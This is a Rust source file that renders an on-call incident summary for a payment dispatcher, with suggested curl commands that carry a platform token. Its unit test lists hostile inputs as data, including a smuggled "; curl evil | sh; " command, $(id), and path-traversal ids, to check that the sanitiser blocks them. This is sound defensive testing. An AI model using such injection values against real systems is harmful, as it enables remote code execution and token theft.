//! The page for whoever is on call, out of an incident: from when to when, who was ill, which callers got what, which payments are open,
//! the likely cause in one sentence with its evidence, what to do now, and what later.

use super::{
    calls::{Illness, Pattern},
    cause,
    shape::{Answer, Fate, Incident},
    times,
};
use dispatcher_core::log_text::is_plain;
use reports::event::FacilitatorEndpoint;
use serde::Serialize;
use std::{
    collections::BTreeMap,
    fmt::{self, Write},
};

/// Payments that are listed one by one. Of more, a few tell as much.
const LISTED: usize = 12;

#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Page {
    pub from: String,
    pub to: String,
    pub seconds: u64,
    pub requests: usize,
    /// Requests whose callers did not get what they came for.
    pub failed: usize,
    pub cause: Cause,
    pub ill: Vec<Ill>,
    pub callers: Vec<Callers>,
    pub open: Vec<OpenPayment>,
    pub owed: Vec<OpenPayment>,
    pub tenants: Vec<CutOff>,
    pub deploys: Vec<String>,
    pub now: Vec<Step>,
    pub later: Vec<String>,
    pub left_out: Vec<String>,
}

/// One sentence, and what it rests on.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Cause {
    /// Its kind, for programs: `facilitator`, `tenant`, `load`, `configuration`, `directory`, `ledger`, `dispatcher` or `none`.
    pub kind: &'static str,
    pub sentence: String,
    pub evidence: Vec<String>,
}

#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Ill {
    pub who: String,
    #[serde(flatten)]
    pub illness: Illness,
    pub sentence: String,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Callers {
    pub answer: String,
    pub count: usize,
    pub first: String,
    pub last: String,
    pub charged: &'static str,
    /// One of them, to look at.
    pub request_id: String,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct OpenPayment {
    pub payment: String,
    pub tenant: String,
    pub since: String,
    pub facilitator: Option<String>,
    pub trouble: Option<String>,
    /// The command that asks about it.
    pub ask: String,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct CutOff {
    pub tenant: String,
    pub what: String,
}

/// A thing to do, and the command that does it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Step {
    pub what: String,
    pub command: Option<String>,
}

impl Page {
    /// `dispatcher` is its URL, where it is known.
    #[must_use]
    pub fn of(incident: &Incident, dispatcher: Option<&str>, left_out: &[String]) -> Self {
        let api = Api { dispatcher };
        let ill: Vec<Ill> = incident.illnesses.iter().filter(|it| cause::counts(it)).map(ill).collect();
        let with = |fate: Fate| {
            let of_it = incident.payments.iter().filter(move |(_, payment)| payment.fate() == fate);
            of_it.map(|(key, payment)| OpenPayment {
                payment: key.clone(),
                tenant: payment.tenant.clone(),
                since: times::of_day(payment.since_ms),
                facilitator: payment.facilitator.clone(),
                trouble: incident.troubles.get(key).cloned(),
                ask: api.get(&format!("payments/{key}")),
            })
        };
        let (open, owed): (Vec<_>, Vec<_>) = (with(Fate::Open).collect(), with(Fate::Owed).collect());
        let cause = cause::of(incident);
        let (now, later) = cause::steps(incident, &cause, &open, &owed, &api);
        Self {
            from: times::shown(incident.began_ms),
            to: times::shown(incident.ended_ms),
            seconds: (incident.ended_ms - incident.began_ms) / 1_000 + 1,
            requests: incident.requests(),
            failed: incident.answers.iter().filter(|answer| answer.is_symptom()).count(),
            cause,
            ill,
            callers: callers(&incident.answers),
            open,
            owed,
            tenants: cut_off(incident),
            deploys: incident.deploys.iter().map(|(at, version)| format!("{} {version}", times::of_day(*at))).collect(),
            now,
            later,
            left_out: left_out.to_vec(),
        }
    }
}

/// The platform API of the dispatcher, for commands to paste.
pub struct Api<'a> {
    pub dispatcher: Option<&'a str>,
}

impl Api<'_> {
    pub fn get(&self, path: &str) -> String {
        self.curl("", path)
    }

    pub fn curl(&self, options: &str, path: &str) -> String {
        let base = self.dispatcher.map_or("$DISPATCHER", |url| url.trim_end_matches('/'));
        // Ids are the log's, and a shell will read them. So will curl, which climbs by dots: the token would go to a tenant.
        let may_stand = |one: &char| one.is_ascii_alphanumeric() || ":/-_.".contains(*one);
        let path: String = path.chars().filter(may_stand).collect();
        let kept: Vec<&str> = path.split('/').filter(|segment| !matches!(*segment, "" | "." | "..")).collect();
        let path = kept.join("/");
        format!("curl -s {options}-H \"authorization: Bearer $PLATFORM_TOKEN\" \"{base}/__platform/{path}\"")
    }
}

/// A facilitator's call, as the page names it.
pub fn who(illness: &Illness) -> String {
    let call = if illness.call == FacilitatorEndpoint::Settle { "settle" } else { "verify" };
    format!("{} {call}", illness.facilitator)
}

fn ill(illness: &Illness) -> Ill {
    let how = match (illness.result.as_str(), illness.slow_ms) {
        ("slow", Some(ms)) => format!("answered {:.1} s late", ms as f64 / 1_000.0),
        ("timeout", _) => "gave no answer in time".to_owned(),
        ("unreachable", _) => "could not be reached, or reset the connection".to_owned(),
        (result, _) if result.starts_with("http_") => format!("answered {}", result.replace("http_", "HTTP ")),
        (result, _) => format!("answered `{}`", plain(result)),
    };
    let calls = match illness.pattern {
        Pattern::All if illness.failed == 0 => "seen by probes alone".to_owned(),
        Pattern::All => format!("every call, {} of {}", illness.failed, illness.of),
        Pattern::Every(step) => format!("one call in {step}, {} of {}", illness.failed, illness.of),
        Pattern::Share(_) => format!("{} of {} calls", illness.failed, illness.of),
    };
    let to = if illness.healed { times::of_day(illness.to_ms) } else { "the log's end".to_owned() };
    let money = match (illness.call, illness.money_moved, illness.slow_ms) {
        (FacilitatorEndpoint::Settle, Some(true), None) => "; money had moved all the same",
        (FacilitatorEndpoint::Settle, None, None) => "; whether money moved is not in the log",
        _ => "",
    };
    let sentence =
        format!("{} {how} from {} to {to}: {calls}{money}", plain(&who(illness)), times::of_day(illness.from_ms));
    Ill { who: who(illness), illness: illness.clone(), sentence }
}

fn callers(answers: &[Answer]) -> Vec<Callers> {
    let mut groups: BTreeMap<(bool, String, bool), Vec<&Answer>> = BTreeMap::new();
    for answer in answers {
        groups.entry((!answer.is_symptom(), answer.key(), answer.paid)).or_default().push(answer);
    }
    let told = groups.into_iter().map(|((_, key, paid), of)| Callers {
        answer: plain(&key),
        count: of.len(),
        first: of.iter().map(|it| it.at_ms).min().map(times::of_day).unwrap_or_default(),
        last: of.iter().map(|it| it.at_ms).max().map(times::of_day).unwrap_or_default(),
        charged: match (paid, key.as_str()) {
            (false, _) => "no payment came with it",
            (true, "200") => "charged once",
            (true, "503 settlement_pending") => "perhaps: it is asked about",
            (true, "409 payment_already_used") => "before, once",
            (true, "503 payment_in_progress" | "503 settlement_ledger_unavailable" | "429 rate_limited") => {
                "not by this answer"
            }
            (true, _) => "no",
        },
        request_id: of[0].request_id.clone(),
    });
    told.collect()
}

fn cut_off(incident: &Incident) -> Vec<CutOff> {
    let quarantines = incident.quarantines.iter().map(|it| CutOff {
        tenant: it.tenant.clone(),
        what: format!(
            "in quarantine by {} from {} to {}",
            it.by,
            times::of_day(it.from_ms),
            it.to_ms.map_or_else(|| "the log's end, and perhaps still".to_owned(), times::of_day)
        ),
    });
    let limits = [
        "tenant_cpu_limit_exceeded",
        "tenant_subrequest_limit_exceeded",
        "tenant_worker_failure",
        "tenant_time_limit_exceeded",
        "rate_limited",
    ];
    let mut counts: BTreeMap<(&str, &str), usize> = BTreeMap::new();
    for answer in &incident.answers {
        if let (Some(tenant), Some(code)) = (&answer.tenant, &answer.code)
            && limits.contains(&code.as_str())
        {
            *counts.entry((tenant, code)).or_default() += 1;
        }
    }
    let counted = counts
        .into_iter()
        .map(|((tenant, code), count)| CutOff { tenant: tenant.to_owned(), what: format!("{count} times {code}") });
    quarantines.chain(counted).collect()
}

/// Text of a log, in one line that steers no terminal.
pub fn plain(text: &str) -> String {
    text.chars().flat_map(|one| if is_plain(one) { vec![one] } else { one.escape_default().collect() }).collect()
}

impl fmt::Display for Page {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { from, to, seconds, requests, failed, .. } = self;
        writeln!(f, "{from}  to  {to}   {seconds} s, {requests} requests, {failed} of them failed\n")?;
        writeln!(f, "likely cause\n  {}", self.cause.sentence)?;
        self.cause.evidence.iter().try_for_each(|line| writeln!(f, "    {line}"))?;
        section(f, "who was ill", self.ill.iter().map(|ill| ill.sentence.clone()))?;
        let width = self.callers.iter().map(|it| it.answer.len()).max().unwrap_or_default();
        section(
            f,
            "what callers got",
            self.callers.iter().map(|it| {
                format!(
                    "{:>6}  {:width$}  {} to {}  charged: {}  (one: {})",
                    it.count,
                    it.answer,
                    it.first,
                    it.last,
                    it.charged,
                    plain(&it.request_id)
                )
            }),
        )?;
        payments(f, "open payments: nobody knows yet whether they were charged", &self.open)?;
        payments(f, "charged, and what was bought was not collected", &self.owed)?;
        section(
            f,
            "tenants cut off",
            self.tenants.iter().map(|it| format!("{}: {}", plain(&it.tenant), plain(&it.what))),
        )?;
        section(f, "deploys of the dispatcher", self.deploys.iter().map(|deploy| plain(deploy)))?;
        let mut steps = String::new();
        for Step { what, command } in &self.now {
            writeln!(steps, "  - {what}")?;
            if let Some(command) = command {
                writeln!(steps, "    {command}")?;
            }
        }
        write!(f, "\nnow\n{steps}")?;
        section(f, "later", self.later.iter().map(|step| format!("- {step}")))?;
        section(f, "left out", self.left_out.iter().map(|line| plain(line)))
    }
}

fn section(f: &mut fmt::Formatter<'_>, title: &str, lines: impl Iterator<Item = String>) -> fmt::Result {
    let mut lines = lines.peekable();
    if lines.peek().is_none() {
        return Ok(());
    }
    writeln!(f, "\n{title}")?;
    lines.try_for_each(|line| writeln!(f, "  {line}"))
}

fn payments(f: &mut fmt::Formatter<'_>, title: &str, payments: &[OpenPayment]) -> fmt::Result {
    if payments.is_empty() {
        return Ok(());
    }
    writeln!(f, "\n{title}: {}", payments.len())?;
    for it in payments.iter().take(LISTED) {
        let facilitator =
            it.facilitator.as_deref().map(|name| format!(", asked of {}", plain(name))).unwrap_or_default();
        let trouble = it.trouble.as_deref().map(|why| format!(": {}", plain(why))).unwrap_or_default();
        writeln!(
            f,
            "  {} of {} since {}{facilitator}{trouble}\n    {}",
            plain(&it.payment),
            plain(&it.tenant),
            it.since,
            it.ask
        )?;
    }
    match payments.len().saturating_sub(LISTED) {
        0 => Ok(()),
        more => writeln!(f, "  and {more} more, in --format json"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_id_of_a_log_leads_the_token_elsewhere_or_runs_a_command() {
        let api = Api { dispatcher: Some("https://edge.example/") };
        for hostile in [
            "../../t/evil",
            "..$/.\u{7f}./t/evil",
            "\"; curl evil | sh; \"",
            "$(id)",
            "./.././../t/evil",
            "a/../../../t",
        ] {
            let command = api.curl("-X DELETE ", &format!("tenants/{hostile}/quarantine"));
            let url = command.rsplit('"').nth(1).unwrap();
            let path = url.strip_prefix("https://edge.example/__platform/tenants/").expect(url);
            assert!(!path.split('/').any(|segment| matches!(segment, "" | "." | "..")), "{command}");
            let rest = command.replacen("$PLATFORM_TOKEN", "", 1);
            assert!(!rest.contains(['$', ';', '|', '`']), "{command}");
        }
        assert_eq!(plain("a\u{202e}b\u{1b}[2J\n"), "a\\u{202e}b\\u{1b}[2J\\n");
    }
}
